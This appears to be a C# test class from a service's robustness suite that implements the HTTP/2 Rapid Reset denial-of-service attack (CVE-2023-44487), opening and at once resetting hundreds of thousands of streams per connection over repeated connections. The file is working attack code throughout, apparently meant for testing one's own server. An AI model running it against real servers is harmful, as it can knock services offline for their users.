using System.Net.Sockets;

namespace Longwave.BadDays.Tests.Attacks;

/// <summary>Opens HTTP/2 streams and resets each at once (CVE-2023-44487), over one connection after another.</summary>
internal sealed class RapidReset(string host, int port)
{
    private const int StreamsPerWrite = 100;
    private const int MaxStreamsPerConnection = 500_000;

    /// <summary>Number of streams opened and reset.</summary>
    public long Streams { get; private set; }

    /// <summary>Number of connections that the server ended.</summary>
    public int ConnectionsEnded { get; private set; }

    /// <summary>Continues until cancelled, or until the given number of connections has ended.</summary>
    public async Task RunAsync(int connections, CancellationToken cancellation)
    {
        while (ConnectionsEnded < connections && !cancellation.IsCancellationRequested)
        {
            try
            {
                await AttackAsync(cancellation);
            }
            catch (Exception ended) when (ended is IOException or SocketException)
            {
                ConnectionsEnded++;
            }
            catch (OperationCanceledException)
            {
                return;
            }
        }
    }

    private async Task AttackAsync(CancellationToken cancellation)
    {
        using var client = new TcpClient { NoDelay = true };
        await client.ConnectAsync(host, port, cancellation);
        NetworkStream stream = client.GetStream();
        using var ended = new CancellationTokenSource();
        Task reading = ReadAsync(stream, ended);
        await stream.WriteAsync(Http2Frames.Start(), cancellation);
        byte[] request = Http2Frames.HeaderBlock("GET", "/v1/events?topic=a", $"{host}:{port}");
        for (int id = 1; id < 2 * MaxStreamsPerConnection && !ended.IsCancellationRequested; id += 2 * StreamsPerWrite)
        {
            var frames = new MemoryStream();
            for (int i = 0; i < StreamsPerWrite; i++)
            {
                Http2Frames.Write(frames, Http2Frames.Headers, Http2Frames.EndHeaders | Http2Frames.EndStream, id + (2 * i), request);
                Http2Frames.WriteReset(frames, id + (2 * i));
            }

            await stream.WriteAsync(frames.ToArray(), cancellation);
            Streams += StreamsPerWrite;
        }

        client.Client.Shutdown(SocketShutdown.Both);
        await reading;
        ConnectionsEnded++;
    }

    /// <summary>Reads until the server ends the connection; unread bytes would block the other direction.</summary>
    private static async Task ReadAsync(NetworkStream stream, CancellationTokenSource ended)
    {
        byte[] buffer = new byte[64 * 1024];
        try
        {
            while (await stream.ReadAsync(buffer) > 0)
            {
                // Discard the frames: SETTINGS, RST_STREAM, GOAWAY.
            }
        }
        catch (Exception exception) when (exception is IOException or ObjectDisposedException)
        {
            // A reset is an end too.
        }

        await ended.CancelAsync();
    }
}
